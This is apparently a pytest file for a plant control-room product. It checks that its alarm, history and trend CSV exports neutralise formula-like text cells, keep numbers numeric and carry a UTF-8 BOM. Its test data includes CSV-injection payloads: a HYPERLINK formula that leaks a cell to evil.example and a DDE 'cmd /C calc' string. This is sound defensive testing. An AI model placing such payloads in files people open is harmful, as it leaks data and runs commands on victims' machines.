"""Every CSV the product writes (alarm history, history export, trend export) is safe to open in a
spreadsheet: no text cell from data starts like a formula (OWASP CSV injection), numbers stay
numbers, and the file carries a UTF-8 byte-order mark so Excel on Chinese Windows reads ``°C``."""

from __future__ import annotations

import csv
import dataclasses
import time
from pathlib import Path

import numpy as np
import pytest

from alarm_engine.export import spreadsheet_text as alarm_text
from historian import Historian
from historian.export import spreadsheet_text as history_text
from screens.trend_data import write_csv as write_trend_csv
from tests.conftest import session_for

BOM = b"\xef\xbb\xbf"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
# (cell from data, what the spreadsheet must receive)
CELLS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-1+cmd", "'-1+cmd"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("matte 1=1 ok", "matte 1=1 ok"),
    ("熔炼炉 °C", "熔炼炉 °C"),
    ("", ""),
    (None, ""),
]


def _read(path: Path) -> list[list[str]]:
    assert path.read_bytes().startswith(BOM)
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _no_formula(rows: list[list[str]], numeric_columns: set[int]) -> None:
    """No text cell starts like a formula; numeric cells are plain numbers (a minus sign is fine)."""
    for row in rows:
        for col, cell in enumerate(row):
            if col in numeric_columns and cell:
                float(cell)
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)


@pytest.mark.parametrize(("cell", "safe"), CELLS)
def test_both_layers_neutralise_text_cells_alike(cell: str | None, safe: str) -> None:
    assert alarm_text(cell) == history_text(cell) == safe


def test_alarm_history_csv_shows_an_operators_formula_as_text(running_control_room, tmp_path: Path) -> None:
    runtime = running_control_room
    alarm_id = runtime.alarms.all_alarms()[0].alarm_id
    session_for(runtime, "@evil").shelve([alarm_id], 60, reason=HYPERLINK)
    session_for(runtime).unshelve([alarm_id], comment="-1+cmd")
    lines = [ln for ln in runtime.alarm_search(limit=None) if ln["alarm_id"] == alarm_id]
    assert runtime.export_alarm_csv(lines, str(tmp_path / "alarms.csv")) == len(lines) >= 2
    rows = _read(tmp_path / "alarms.csv")
    header, body = rows[0], rows[1:]
    col = {name: i for i, name in enumerate(header)}
    assert ["'@evil", "'" + HYPERLINK] in [[r[col["user"]], r[col["comment"]]] for r in body]
    assert "'-1+cmd" in [r[col["comment"]] for r in body]
    _no_formula(body, {col["value"], col["limit"]})


def test_history_export_keeps_numbers_and_neutralises_text(tmp_path: Path) -> None:
    t0 = 1_790_000_000.0
    hist = Historian(tmp_path / "history.db", ["FSF.SLAG_TEMP", "+GAS.DRAFT"], flush_interval=0.1)
    hist.start()
    try:
        times = t0 + np.arange(4, dtype=np.float64)
        for i, t in enumerate(times):
            hist.append(
                np.array([0, 1], dtype=np.int32),
                np.full(2, t),
                np.array([1250.0 + i, -12.5 - i]),
                np.full(2, 2, dtype=np.uint8),
            )
        rows = hist.export_csv([0, 1], t0, t0 + 3, None, tmp_path / "h.csv", units=["°C", "Pa"])
    finally:
        hist.stop()
    table = _read(tmp_path / "h.csv")
    assert rows == 4
    assert table[0] == ["time_utc", "epoch_s", "FSF.SLAG_TEMP [°C]", "'+GAS.DRAFT [Pa]"]
    assert [r[3] for r in table[1:]] == ["-12.5", "-13.5", "-14.5", "-15.5"]  # numbers stay numbers
    _no_formula(table[1:], {1, 2, 3})


def test_trend_export_neutralises_descriptions_and_units(running_control_room, tmp_path: Path) -> None:
    runtime = running_control_room
    tag = dataclasses.replace(
        next(t for t in runtime.tags if t.name == "FSF.MATTE_TEMP"), description="-1+cmd", eng_unit="=°C"
    )
    now = time.time()
    rows = write_trend_csv(tmp_path / "trend.csv", runtime, [tag], now - 60, now + 1)
    table = _read(tmp_path / "trend.csv")
    assert rows == len(table) - 1 > 0
    col = {name: i for i, name in enumerate(table[0])}
    assert {(r[col["description"]], r[col["unit"]]) for r in table[1:]} == {("'-1+cmd", "'=°C")}
    _no_formula(table[1:], {col["epoch_s"], col["value"]})
